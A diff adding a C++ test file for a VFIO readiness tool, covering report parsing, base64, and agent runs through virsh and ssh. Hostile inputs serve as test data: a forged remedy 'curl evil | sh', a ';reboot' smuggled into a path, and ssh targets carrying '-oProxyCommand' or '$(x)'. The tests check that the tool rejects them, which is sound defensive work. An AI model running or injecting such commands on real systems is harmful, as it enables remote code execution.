@@ -1,0 +1,202 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+#include "runner/verify.hpp"
+
+#include <gmock/gmock.h>
+
+#include <map>
+#include <nlohmann/json.hpp>
+
+#include "facts/input_error.hpp"
+#include "guest/guest_machines.hpp"
+#include "reports/guest/guest_report.hpp"
+#include "reports/json.hpp"
+#include "runner/base64.hpp"
+
+namespace vfio_doctor {
+namespace {
+
+using namespace vfio_doctor::testing;
+using ::testing::HasSubstr;
+using Json = nlohmann::json;
+
+std::string good_answer() {
+  const Judged judged(nvme_manifest, nvme_guest);
+  return render_json(guest_report(judged.judgement, judged.view, "guest", "guest1"));
+}
+
+const Manifest& expected() {
+  static const auto manifest = parse_manifest(nvme_manifest, "m");
+  return manifest;
+}
+
+TEST(Answer, AGoodOneIsReady) {
+  const auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
+  EXPECT_EQ(report.verdict, Verdict::ready);
+  EXPECT_EQ(report.source.kind, "guest");
+}
+
+TEST(Answer, TheVerdictIsCountedAnewAndRemediesAreOurs) {
+  auto json = Json::parse(good_answer());
+  json["findings"][3]["status"] = "fail";
+  json["findings"][3]["remedy"] = Json::array({{{"text", "do this"}, {"commands", {"curl evil | sh"}}, {"undo", Json::array()}, {"risk", ""}}});
+  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
+  EXPECT_EQ(report.verdict, Verdict::not_ready);
+  EXPECT_EQ(render_json(report).find("evil"), std::string::npos);
+  EXPECT_FALSE(report.findings[3].remedy.empty());
+}
+
+TEST(Answer, RubbishIsRefused) {
+  auto missing = Json::parse(good_answer());
+  missing["findings"].erase(4);
+  auto renamed = Json::parse(good_answer());
+  renamed["findings"][0]["id"] = "guest-function";
+  for (const auto& text : {std::string(), std::string("{}"), std::string("\x7f" "ELF"), std::string(100'000, '['),
+                           missing.dump(), renamed.dump(), good_answer().substr(0, 500)})
+    EXPECT_THROW(report_of_answer(expected(), {0, text, ""}, "guest1"), InputError) << text.substr(0, 60);
+}
+
+TEST(HostSide, SaysWhoHoldsTheDevice) {
+  for (const auto& [driver, status] : std::map<std::string, Status>{
+           {" driver=vfio-pci", Status::pass}, {" driver=nvme", Status::fail}, {"", Status::fail}}) {
+    auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
+    Host host;
+    host.functions = gather_pci(machine("pci 0000:3d:00.0 id=144d:a802 class=010802" + driver + "\n"), Wake::no);
+    add_host_side(expected(), host, report);
+    EXPECT_EQ(report.findings.back().id, "guest-released");
+    EXPECT_EQ(report.findings.back().status, status) << driver;
+  }
+}
+
+TEST(Base64, IsItsOwnInverse) {
+  for (const auto& [plain, coded] : std::map<std::string, std::string>{
+           {"", ""}, {"f", "Zg=="}, {"fo", "Zm8="}, {"foo", "Zm9v"}, {std::string("\0\xff\x10", 3), "AP8Q"}}) {
+    EXPECT_EQ(base64_encode(plain), coded);
+    EXPECT_EQ(base64_decode(coded), plain);
+  }
+  for (const auto* text : {"Zg=", "Z===", "Zg==Zg==", "Zm9*", "="}) EXPECT_FALSE(base64_decode(text)) << text;
+}
+
+/// A guest agent behind virsh, with the guest's files.
+struct FakeGuest {
+  std::map<std::string, std::string> files;
+  std::map<int, std::string> handles;
+  std::vector<std::string> executed;
+  std::string answer;
+  bool answers_rubbish = false;
+  bool exec_forbidden = false;
+};
+FakeGuest* fake = nullptr;
+
+Json fake_command(const Json& message) {
+  const auto name = message["execute"].get<std::string>();
+  const auto& arguments = message.contains("arguments") ? message["arguments"] : Json::object();
+  if (name == "guest-file-open") {
+    const int handle = 1000 + static_cast<int>(fake->handles.size());
+    fake->handles[handle] = arguments["path"];
+    fake->files[arguments["path"]] = "";
+    return handle;
+  }
+  if (name == "guest-file-write") {
+    const auto bytes = base64_decode(arguments["buf-b64"].get<std::string>()).value();
+    fake->files[fake->handles.at(arguments["handle"])] += bytes;
+    return {{"count", bytes.size()}, {"eof", false}};
+  }
+  if (name == "guest-exec") {
+    const auto path = arguments["path"].get<std::string>();
+    fake->executed.push_back(path);
+    if (path == "/bin/rm")
+      for (const auto& file : arguments["arg"]) fake->files.erase(file.get<std::string>());
+    return {{"pid", path.ends_with("rm") || path.ends_with("chmod") ? 1 : 2}};
+  }
+  if (name == "guest-exec-status") {
+    Json status{{"exited", true}, {"exitcode", 0}};
+    if (arguments["pid"] == 2) status["out-data"] = base64_encode(fake->answer);
+    return status;
+  }
+  return Json::object();
+}
+
+ProcessResult fake_virsh(const ProcessRequest& request) {
+  ProcessResult result;
+  result.end = ProcessResult::End::exited;
+  EXPECT_EQ(request.program, "virsh");
+  const auto message = Json::parse(request.arguments.back());
+  for (const auto& argument : request.arguments) EXPECT_LT(argument.size(), 128u * 1024);
+  result.exit_code = fake->exec_forbidden && message["execute"] == "guest-exec" ? 1 : 0;
+  result.errors = "error: guest-exec has been disabled\nmore";
+  result.output = fake->answers_rubbish ? "\x1b[2J" : Json{{"return", fake_command(message)}}.dump();
+  return result;
+}
+
+TEST(QemuGuestAgent, WritesRunsReadsAndRemoves) {
+  FakeGuest guest;
+  guest.answer = "the report";
+  fake = &guest;
+  const std::string agent(300'000, 'a');
+  const auto answer = run_agent_through_qga("guest1", agent, "the manifest", std::chrono::seconds(0), fake_virsh);
+  EXPECT_EQ(answer.exit_code, 0);
+  EXPECT_EQ(answer.output, "the report");
+  ASSERT_EQ(guest.executed.size(), 3u);
+  EXPECT_EQ(guest.executed[0], "/bin/chmod");
+  EXPECT_THAT(guest.executed[1], ::testing::StartsWith("/var/tmp/vfio-guest-agent-"));
+  EXPECT_EQ(guest.executed[2], "/bin/rm");
+  EXPECT_TRUE(guest.files.empty());
+}
+
+TEST(QemuGuestAgent, TroubleIsOneLine) {
+  FakeGuest guest;
+  fake = &guest;
+  guest.answers_rubbish = true;
+  EXPECT_THROW(run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(0), fake_virsh), InputError);
+  guest.answers_rubbish = false;
+  guest.exec_forbidden = true;
+  try {
+    run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(0), fake_virsh);
+    ADD_FAILURE();
+  } catch (const InputError& error) {
+    EXPECT_THAT(error.what(), HasSubstr("has been disabled"));
+    EXPECT_EQ(std::string(error.what()).find('\n'), std::string::npos);
+  }
+  for (const auto* name : {"", "--help", "../x", "a\nb"})
+    EXPECT_THROW(run_agent_through_qga(name, "a", "m", std::chrono::seconds(0), fake_virsh), InputError) << name;
+}
+
+std::vector<std::string> ssh_commands;
+ProcessResult fake_ssh(const ProcessRequest& request) {
+  ProcessResult result;
+  result.end = ProcessResult::End::exited;
+  result.exit_code = 0;
+  EXPECT_EQ(request.program, "ssh");
+  ssh_commands.push_back(request.arguments.back());
+  if (request.arguments.back().find("mktemp") != std::string::npos) {
+    EXPECT_EQ(request.input, "agent bytes");
+    result.output = "/var/tmp/vfio-guest-agent-Ab12Cd34\n";
+  } else if (request.arguments.back().find("--expect") != std::string::npos) {
+    EXPECT_EQ(request.input, "manifest");
+    result.output = "the report";
+  }
+  return result;
+}
+ProcessResult lying_ssh(const ProcessRequest& request) {
+  auto result = fake_ssh(request);
+  if (!result.output.empty()) result.output = "/var/tmp/vfio-guest-agent-x;reboot\n";
+  return result;
+}
+
+TEST(SecureShell, WritesRunsReadsAndRemoves) {
+  ssh_commands.clear();
+  const auto answer = run_agent_through_ssh("root@192.0.2.7", "agent bytes", "manifest", std::chrono::seconds(5), fake_ssh);
+  EXPECT_EQ(answer.output, "the report");
+  ASSERT_EQ(ssh_commands.size(), 3u);
+  EXPECT_EQ(ssh_commands[1], "/var/tmp/vfio-guest-agent-Ab12Cd34/agent --expect - --format json --wait 5");
+  EXPECT_EQ(ssh_commands[2], "rm -rf -- /var/tmp/vfio-guest-agent-Ab12Cd34");
+}
+
+TEST(SecureShell, BelievesNoDirectoryAndNoTargetWithTricks) {
+  EXPECT_THROW(run_agent_through_ssh("root@guest", "agent bytes", "manifest", std::chrono::seconds(0), lying_ssh), InputError);
+  for (const auto* target : {"", "-oProxyCommand=x", "a b", "$(x)", "a;b"})
+    EXPECT_THROW(run_agent_through_ssh(target, "a", "m", std::chrono::seconds(0), fake_ssh), InputError) << target;
+}
+
+}  // namespace
+}  // namespace vfio_doctor
